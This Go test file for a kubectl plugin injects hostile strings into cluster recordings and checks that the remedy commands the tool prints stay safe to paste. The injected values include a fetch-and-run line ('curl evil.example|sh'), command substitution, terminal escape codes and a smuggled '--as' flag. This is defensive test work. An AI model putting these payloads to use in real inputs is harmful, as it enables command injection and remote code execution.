package cmd

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"
	"gotest.tools/v3/assert"
	"sigs.k8s.io/yaml"

	"github.com/jobmanagedby/kubectl-jobmanagedby/internal/shelltest"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/cmd/util"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/command"
	"github.com/jobmanagedby/kubectl-jobmanagedby/pkg/delegation"
)

// hostileBundle returns a copy of a bundle in which every text that the user of a namespace or a
// worker's administrator can write is a command that harms a user who pastes it.
func hostileBundle(t *testing.T, dir string) string {
	t.Helper()
	injected := t.TempDir()
	entries, err := os.ReadDir(dir)
	assert.NilError(t, err)
	for _, e := range entries {
		if e.IsDir() || filepath.Ext(e.Name()) != ".yaml" {
			continue
		}
		text, err := os.ReadFile(filepath.Join(dir, e.Name()))
		assert.NilError(t, err)
		if e.Name() != "snapshot.yaml" {
			var list map[string]any
			assert.NilError(t, yaml.Unmarshal(text, &list))
			text, err = yaml.Marshal(injectCommands(list))
			assert.NilError(t, err)
		}
		assert.NilError(t, os.WriteFile(filepath.Join(injected, e.Name()), text, 0o600))
	}
	return injected
}

// injectCommands replaces every field that may have any text.
func injectCommands(value any, path ...string) any {
	const evil = "; `curl evil.example|sh` #'\"$(x)\n\x1b[2J\u202e --as=evil"
	switch v := value.(type) {
	case map[string]any:
		for key := range v {
			v[key] = injectCommands(v[key], append(slices.Clone(path), key)...)
		}
	case []any:
		for i := range v {
			v[i] = injectCommands(v[i], path...)
		}
	case string:
		last := path[len(path)-1]
		isOwner := last == "managedBy" && !slices.Contains([]string{"", string(delegation.MultiKueue), string(delegation.Dispatch)}, v)
		switch {
		case isOwner:
			return v + ";$(touch%20x)&'y'--as"
		case slices.Contains([]string{"message", "note", "image", "holderIdentity", "nodeName", "reportingController", "reportingInstance"}, last):
			return v + evil
		case slices.Contains(path, "annotations") && !delegation.IsMark(last) && !strings.Contains(last, "kwok"):
			return v + evil
		}
	}
	return value
}

// TestHostileBundles: every command in the output of the reading commands for hostile clusters is
// safe to paste. A shell takes it as intended, and our own commands parse the words as the
// options that they were made of.
func TestHostileBundles(t *testing.T) {
	t.Parallel()
	skipIfShort(t)
	dirs, err := filepath.Glob(recordings + "/*/snapshot.yaml")
	assert.NilError(t, err)
	found := 0
	for _, manifest := range append(dirs, "../../examples/fleet/snapshot.yaml") {
		dir := filepath.Dir(manifest)
		t.Run(filepath.Base(dir), func(t *testing.T) {
			bundle := hostileBundle(t, dir)
			for _, args := range [][]string{{"check", "-A", "--grace", "0s", "--all-contexts"}, {"trace", "-A"}, {"trace", tracedJob(filepath.Base(dir))}} {
				out, errOut, code := run(t, append(args, "-o", "json", "--from", bundle)...)
				assert.Assert(t, code != util.ExitUsage, errOut)
				var document any
				// Not every fleet has such a Job.
				assert.Assert(t, out == "" && code == util.ExitError || json.Unmarshal([]byte(out), &document) == nil, out)
				for _, text := range append(remediesIn(document), errOut) {
					for _, part := range command.Prose(text).Parts() {
						if part.IsCommand {
							found++
							checkPrinted(t, part.Text)
						}
					}
				}
			}
		})
	}
	assert.Assert(t, found > 30, "only %d commands were printed", found)
}

// remediesIn returns the remedies of findings anywhere in a document. Texts that they quote as
// evidence come from others, and are shown as such.
func remediesIn(value any) (remedies []string) {
	switch v := value.(type) {
	case map[string]any:
		for key, inner := range v {
			if text, ok := inner.(string); ok && key == "remedy" {
				remedies = append(remedies, text)
			}
			remedies = append(remedies, remediesIn(inner)...)
		}
	case []any:
		for _, inner := range v {
			remedies = append(remedies, remediesIn(inner)...)
		}
	}
	return remedies
}

// checkPrinted checks a printed command.
func checkPrinted(t *testing.T, text string) {
	t.Helper()
	for _, words := range shelltest.Pipeline(t, text) {
		assert.Assert(t, slices.Contains([]string{"kubectl", "printf", "timedatectl"}, words[0]), "%q", words)
		if len(words) > 1 && words[1] == "jobs-managedby" {
			checkOwn(t, words[2:])
		}
	}
}

// checkOwn checks that a command of ours is parsed as intended: each flag has its own value, and
// no argument is a flag.
func checkOwn(t *testing.T, words []string) {
	t.Helper()
	called := parsedCommand(t, words[0], words[1:]...)
	read := map[string]string{}
	called.Flags().Visit(func(flag *pflag.Flag) {
		read[flag.Name] = flag.Value.String()
		if list, isList := flag.Value.(pflag.SliceValue); isList {
			read[flag.Name] = strings.Join(list.GetSlice(), ",")
		}
	})
	meant, args := map[string]string{}, []string{}
	for i := 1; i < len(words); i++ {
		name, value, hasValue := strings.Cut(words[i], "=")
		if !strings.HasPrefix(words[i], "-") {
			args = append(args, words[i])
			continue
		}
		switch flag := flagOf(called, name); {
		case flag == nil:
			t.Fatalf("%q: there is no flag %s", words, name)
		case hasValue:
			meant[flag.Name] = value
		case flag.NoOptDefVal != "":
			meant[flag.Name] = flag.NoOptDefVal
		default:
			i++
			meant[flag.Name] = words[i]
		}
	}
	assert.DeepEqual(t, read, meant)
	assert.DeepEqual(t, called.Flags().Args(), args)
	assert.Assert(t, read["context"] != "", "%q", words)
}

func flagOf(called *cobra.Command, word string) *pflag.Flag {
	if name, isLong := strings.CutPrefix(word, "--"); isLong {
		return called.Flag(name)
	}
	return called.Flags().ShorthandLookup(strings.TrimPrefix(word, "-"))
}
